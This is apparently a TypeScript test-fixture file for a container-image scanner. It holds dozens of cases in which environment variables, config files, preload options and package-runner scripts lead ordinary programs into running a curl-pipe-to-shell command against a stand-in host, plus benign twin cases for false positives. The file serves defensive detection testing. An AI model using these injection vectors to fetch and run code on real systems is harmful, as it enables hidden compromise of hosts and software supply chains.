import { type Files, type ImageCase, image } from './image-case.ts';

const FETCH = 'curl -s https://files.backend.example/u | sh';
const PATH = 'PATH=/usr/local/bin:/usr/bin:/bin';
const PYTHON = `import os\nos.system("${FETCH}")\n`;
const NODE = `require('child_process').execSync("${FETCH}");\n`;
const RUBY = `system("${FETCH}")\n`;
const PERL = `system("${FETCH}");\n1;\n`;
const LUA = `os.execute("${FETCH}")\n`;
const SCRIPT = { data: `#!/bin/sh\n${FETCH}\n`, mode: 0o755 };

function led(
  line: string | readonly string[],
  files: Files = {},
  Env: readonly string[] = [],
  about = '',
): ImageCase {
  const Entrypoint = typeof line === 'string' ? line.split(' ') : [...line];
  return {
    name: `led astray: ${[...Env, ...Entrypoint].join(' ')}: ${Object.keys(files).join(' ')}${about}`,
    spec: image(files, { Entrypoint, WorkingDir: '/app', Env: [PATH, ...Env] }),
    rule: 'start/download-and-run',
  };
}

function scripts(start: string, others: Readonly<Record<string, string>>): ImageCase {
  return led(
    'npm start',
    { 'app/package.json': JSON.stringify({ scripts: { start, ...others } }) },
    [],
    `: ${start}`,
  );
}

const inPackage = (script: string): Files => ({
  'app/package.json': JSON.stringify({ workspaces: ['packages/*'] }),
  'app/packages/p/package.json': JSON.stringify({ name: 'p', scripts: { [script]: FETCH } }),
});

/** Modules that a program imports from where it looks for them. */
const MODULES: readonly ImageCase[] = [
  led('python3 main.py', {
    'app/main.py': 'import pkg.a\n',
    'app/pkg/a.py': 'from pkg import (\n  x,\n  b,\n)\n',
    'app/pkg/b.py': PYTHON,
  }),
  led('python3 -m pkg.main', { 'app/pkg/main.py': 'from pkg.b import x\n', 'app/pkg/b.py': PYTHON }),
  led('python3 -um pkg.main', { 'app/pkg/main.py': '1\n', 'app/pkg/__init__.py': PYTHON }),
  led('uvicorn pkg.main:app', { 'app/pkg/main.py': 'from pkg.api import r\n', 'app/pkg/api.py': PYTHON }),
  led('python3 main.py', {
    'app/main.py':
      'import sys, os\nsys.path.append(os.path.join(os.path.dirname(__file__), "lib"))\nimport dep\n',
    'app/lib/dep.py': PYTHON,
  }),
  led('python3 a.py', { 'app/a.py': 'import os; import json\n', 'opt/x/json.py': PYTHON }, [
    'PYTHONPATH=/opt/x',
  ]),
  led('python3 a.py', { 'app/a.py': '1\n', 'opt/x/lib/python3.11/site.py': PYTHON }, ['PYTHONHOME=/opt/x']),
  led('python3 manage.py', { 'app/manage.py': '1\n', 'app/c/s.py': PYTHON }, ['DJANGO_SETTINGS_MODULE=c.s']),
  led('node a.mjs', {
    'app/a.mjs': 'import {\n  x, // it\'s\n  y\n} from "./b.mjs"\n',
    'app/b.mjs': `import { execSync } from "child_process"; execSync("${FETCH}")\n`,
  }),
  led('node a.js', { 'app/a.js': 'require(`./b`)\n', 'app/b.js': NODE }),
  led('node a.js', {
    'app/a.js': 'require("#x")\n',
    'app/package.json': '{"imports":{"#x":"./m.dat"}}',
    'app/m.dat': NODE,
  }),
  led('node a.js', { 'app/a.js': 'require("dep/sub")\n', 'opt/x/dep/sub.js': NODE }, ['NODE_PATH=/opt/x']),
  led('node a.js', { 'app/a.js': '1\n', 'opt/x.mjs': NODE }, ['NODE_OPTIONS=--import file:///opt/x.mjs']),
  led('node --require=/opt/x.dat a.js', { 'app/a.js': '1\n', 'opt/x.dat': NODE }),
  led('bun a.js', { 'app/a.js': '1\n', 'opt/x.js': NODE, 'app/bunfig.toml': 'preload = ["/opt/x.js"]\n' }),
  led('perl a.pl', { 'app/a.pl': 'use strict;\n', 'opt/x/strict.pm': PERL }, ['PERL5LIB=/opt/x']),
  led('perl -I/opt -MDep a.pl', { 'app/a.pl': '1;\n', 'opt/Dep.pm': PERL }),
  led('perl a.pl', { 'app/a.pl': '1;\n', 'opt/Devel/X.pm': PERL }, ['PERL5OPT=-d:X', 'PERL5LIB=/opt']),
  led('perl -d a.pl', { 'app/a.pl': '1;\n' }, [`PERL5DB=system("${FETCH}")`]),
  led('ruby a.rb', { 'app/a.rb': 'require "json"\n', 'opt/x/json.rb': RUBY }, ['RUBYLIB=/opt/x']),
  led('ruby -r/opt/x.rb a.rb', { 'app/a.rb': '1\n', 'opt/x.rb': RUBY }),
  led('bundle exec ruby a.rb', { 'app/a.rb': '1\n', 'app/Gemfile': RUBY }),
  led('rake go', { 'app/Rakefile': '\n', 'app/rakelib/x.rake': `task :go do\n  sh "${FETCH}"\nend\n` }),
  led('lua a.lua', { 'app/a.lua': 'require("dep")\n', 'opt/x/dep.lua': LUA }, ['LUA_PATH=/opt/x/?.lua;;']),
  led('gawk -f lib', { 'opt/x/lib.awk': `BEGIN { system("${FETCH}") }\n` }, ['AWKPATH=/opt/x']),
];

/** Program text in the words of an interpreter, however its options stand together. */
const WORDS: readonly ImageCase[] = [
  led(['perl', `-esystem("${FETCH}")`]),
  led(['perl', '-lE', `system("${FETCH}")`]),
  led(['perl', '-e', '1;', '-e', `system("${FETCH}")`]),
  led(['ruby', `-esystem("${FETCH}")`]),
  led(['python3', '-Sc', `import os;os.system("${FETCH}")`]),
  led(['python3', `-cimport os;os.system("${FETCH}")`]),
  led(['node', `--eval=require("child_process").execSync("${FETCH}")`]),
  led(['php', '--run', `system("${FETCH}");`]),
  led(['lua', `-eos.execute("${FETCH}")`]),
  led(['mongosh', '--eval', `require("child_process").execSync("${FETCH}")`]),
  led(['psql', '-c', `COPY x TO PROGRAM '${FETCH}'`]),
  led(['psql', '-c', `\\g |${FETCH}`]),
  led(['sqlite3', 'x.db', `.once |${FETCH}`]),
  led(['duckdb', '-c', `.shell ${FETCH}`]),
  led(['mysql', `--init-command=\\! ${FETCH}`]),
  led(['git', 'clone', `ext::sh -c ${FETCH.replaceAll(' ', '% ')}`]),
  led(['git', 'clone', `--upload-pack=${FETCH}`, 'x', 'y']),
];

/** Variables that hold commands, or name files of settings. */
const VARIABLES: readonly ImageCase[] = [
  led('git status', {}, [
    'GIT_CONFIG_COUNT=1',
    'GIT_CONFIG_KEY_0=core.fsmonitor',
    `GIT_CONFIG_VALUE_0=${FETCH}`,
  ]),
  led('git x', {}, [`GIT_CONFIG_PARAMETERS='alias.x'='!${FETCH}'`]),
  led('git status', { 'opt/g': `[core]\n\tfsmonitor = ${FETCH}\n` }, ['GIT_CONFIG_GLOBAL=/opt/g']),
  led('git init', { 'opt/g/hooks/post-checkout': SCRIPT }, ['GIT_TEMPLATE_DIR=/opt/g']),
  led(['bash', '-c', 'nginx'], {}, [`BASH_FUNC_nginx%%=() { ${FETCH}; }`]),
  led('bash --rcfile /opt/r -i', { 'opt/r': `${FETCH}\n` }),
  led('make', { 'opt/m': `all:\n\t${FETCH}\n`, 'app/Makefile': 'x:\n\techo\n' }, ['MAKEFILES=/opt/m']),
  led('go build', { 'opt/x': SCRIPT }, ['GOFLAGS=-toolexec=/opt/x']),
  led('cargo run', { 'opt/c/config.toml': '[build]\nrustc-wrapper = "/opt/x"\n', 'opt/x': SCRIPT }, [
    'CARGO_HOME=/opt/c',
  ]),
  led(
    'kubectl get pods',
    { 'opt/k': `users:\n- user:\n    exec:\n      command: sh\n      args: ["-c", "${FETCH}"]\n` },
    ['KUBECONFIG=/opt/k'],
  ),
  led('aws s3 ls', { 'opt/a': `[default]\ncredential_process = sh -c "${FETCH}"\n` }, [
    'AWS_CONFIG_FILE=/opt/a',
  ]),
  led('ipython', { 'opt/i/profile_default/startup/a.py': PYTHON }, ['IPYTHONDIR=/opt/i']),
  led('catalina.sh run', { 'opt/t/bin/setenv.sh': `${FETCH}\n` }, ['CATALINA_BASE=/opt/t']),
  led('julia a.jl', { 'app/a.jl': '1\n', 'opt/j/config/startup.jl': `run(\`sh -c "${FETCH}"\`)\n` }, [
    'JULIA_DEPOT_PATH=/opt/j',
  ]),
  led(['pwsh', '-c', 'ls'], { 'root/.config/powershell/profile.ps1': `sh -c "${FETCH}"\n` }),
  led('ghci', { 'app/.ghci': `:! ${FETCH}\n` }),
  led('uwsgi', {}, [`UWSGI_EXEC_ASAP=${FETCH}`]),
  led(['uwsgi', '--hook-asap', `exec:${FETCH}`]),
  led('uwsgi --ini u.ini', { 'app/u.ini': '[uwsgi]\nmule = m.dat\n', 'app/m.dat': PYTHON }),
  led('unitd --no-daemon', {
    'docker-entrypoint.d/c.json': JSON.stringify({
      applications: { a: { type: 'external', executable: '/bin/sh', arguments: ['-c', FETCH] } },
    }),
  }),
];

/** Scripts of package.json that runners and workspaces start. */
const RUNNERS: readonly ImageCase[] = [
  scripts('run-s a', { a: FETCH }),
  scripts('npm-run-all --parallel a:*', { 'a:x': FETCH }),
  scripts('concurrently "npm:a:*"', { 'a:z': FETCH }),
  led('npm run go -w p', inPackage('go')),
  led('yarn workspace p go', inPackage('go')),
  led('lerna run go', inPackage('go')),
  led('turbo run go', inPackage('go')),
  led('pnpm -r go', {
    'app/package.json': '{}',
    'app/pnpm-workspace.yaml': 'packages:\n  - "libs/*"\n',
    'app/libs/p/package.json': JSON.stringify({ scripts: { go: FETCH } }),
  }),
  led('npx nx run p:serve', {
    'app/apps/p/project.json': JSON.stringify({ targets: { serve: { options: { commands: [FETCH] } } } }),
  }),
  led(['npx', '-c', FETCH]),
  led('npm start', {
    'app/package.json': JSON.stringify({ scripts: { start: 'node a.js' } }),
    'app/a.js': '1\n',
    'app/.npmrc': 'node-options=--require /opt/x.js\n',
    'opt/x.js': NODE,
  }),
];

/** Honest programs that are led to code of the image by variables, options, settings and runners. All inert. */
export const LED_ASTRAY: readonly ImageCase[] = [...MODULES, ...WORDS, ...VARIABLES, ...RUNNERS];

function honest(line: string, files: Files, Env: readonly string[] = []): ImageCase {
  return {
    name: `led as it should be: ${[...Env, line].join(' ')}`,
    spec: image(files, { Entrypoint: line.split(' '), WorkingDir: '/app', Env: [PATH, ...Env] }),
  };
}

const HINT = 'curl -fsSL https://get.example/i | sh';

/** The same variables, options and tools as images use them. */
export const LED_ASTRAY_TWINS: readonly ImageCase[] = [
  honest(
    'gunicorn pkg.main:app',
    {
      'app/pkg/__init__.py': '__version__ = "1"\n',
      'app/pkg/main.py':
        'from pkg.core import (\n    config,\n    tools,\n)\nfrom flask import Flask\napp = Flask(__name__)\n',
      'app/pkg/core/__init__.py': 'from .config import load\n',
      'app/pkg/core/config.py':
        'import json\nimport os\nHELP = "Install: curl -fsSL https://get.example/i | sh"\ndef load():\n    return json.load(open(os.environ["CONF"]))\n',
      'app/pkg/core/tools.py':
        'import subprocess\ndef git(*a):\n    return subprocess.check_output(["git", *a])\n',
      'app/tests/test_a.py': PYTHON,
      'app/scripts/setup.py': PYTHON,
    },
    [
      'PYTHONPATH=/app',
      'PYTHONUNBUFFERED=1',
      'PYTHONDONTWRITEBYTECODE=1',
      'DJANGO_SETTINGS_MODULE=pkg.settings',
    ],
  ),
  honest(
    'node a.js',
    {
      'app/a.js': 'const x = require("express");\nrequire("#db");\n',
      'app/package.json': '{"imports":{"#db":"./db.js"},"scripts":{"setup":"x"}}',
      'app/db.js': `module.exports = { help: "${HINT}" };\n`,
      'app/tracing.js': 'require("dd-trace").init();\n',
      'usr/lib/node_modules/express/index.js': 'exports.x = 1;\n',
    },
    [
      'NODE_PATH=/usr/lib/node_modules:/app',
      'NODE_OPTIONS=--max-old-space-size=512 --require /app/tracing.js',
    ],
  ),
  honest(
    'java -jar /app/a.jar',
    { 'otel/opentelemetry-javaagent.jar': Buffer.from('PK\x05\x06'.padEnd(22, '\0'), 'latin1') },
    ['JAVA_TOOL_OPTIONS=-javaagent:/otel/opentelemetry-javaagent.jar -XX:MaxRAMPercentage=75'],
  ),
  honest(
    'perl -I/app/lib a.pl',
    {
      'app/a.pl':
        'use strict;\nuse warnings;\nuse FindBin;\nuse lib "$FindBin::Bin/lib";\nuse My::Tool;\nMy::Tool::run();\n',
      'app/lib/My/Tool.pm': `package My::Tool;\nsub run { print "${HINT}"; system("git", "status"); }\n1;\n`,
    },
    ['PERL5LIB=/app/lib', 'PERL5OPT=-Mutf8'],
  ),
  honest(
    'bundle exec rake work',
    {
      'app/Gemfile': 'source "https://rubygems.org"\ngem "rake"\n',
      'app/Rakefile': '$LOAD_PATH.unshift File.expand_path("lib", __dir__)\nrequire "tool"\n',
      'app/lib/tool.rb': `HINT = "${HINT}"\n`,
      'app/lib/tasks/work.rake': 'task :work do\n  sh "ls -l"\nend\n',
    },
    ['RUBYLIB=/app/lib', 'RUBYOPT=-W0'],
  ),
  honest(
    'npm start',
    {
      'app/package.json': JSON.stringify({
        workspaces: ['packages/*'],
        scripts: {
          start: 'run-p serve:*',
          'serve:api': 'node api.js',
          'serve:web': 'npm run start -w web',
          setup: FETCH,
        },
      }),
      'app/packages/web/package.json': JSON.stringify({
        name: 'web',
        scripts: { start: 'serve -p 80', prepare: FETCH },
      }),
      'app/.npmrc': 'script-shell=/bin/bash\nregistry=https://npm.example\n',
    },
    ['npm_config_loglevel=warn'],
  ),
  honest(
    'git log',
    {
      'etc/git/config':
        '[core]\n\tpager = less -R\n\tsshCommand = ssh -i /keys/deploy -o StrictHostKeyChecking=yes\n[alias]\n\tst = status\n',
    },
    [
      'GIT_CONFIG_COUNT=1',
      'GIT_CONFIG_KEY_0=safe.directory',
      'GIT_CONFIG_VALUE_0=/app',
      'GIT_CONFIG_GLOBAL=/etc/git/config',
      'BASH_FUNC_which%%=() { ( alias; eval ${which_declare} ) | /usr/bin/which --tty-only --read-alias $@\n}',
    ],
  ),
  honest(
    'kubectl apply -f pod.yaml',
    {
      'app/pod.yaml': `kind: Pod\nspec:\n  containers:\n  - command: ["sh", "-c"]\n    args: ["echo '${HINT}'"]\n    livenessProbe:\n      exec:\n        command:\n        - cat\n        - /tmp/ok\n`,
      'root/.kube/config':
        'users:\n- user:\n    exec:\n      command: aws\n      args: ["eks", "get-token", "--cluster-name", "x"]\n',
    },
    ['KUBECONFIG=/root/.kube/config'],
  ),
  honest('uwsgi --ini u.ini', {
    'app/u.ini':
      '[uwsgi]\nmodule = app:app\nprocesses = 4\nhook-master-start = unix_signal:15 gracefully_kill_them_all\nexec-asap = mkdir -p /run/app\ncron = 0 3 -1 -1 -1 python3 /app/clean.py\n',
    'app/app.py': 'app = 1\n',
    'app/clean.py': 'import os\nos.remove("/tmp/x")\n',
  }),
];
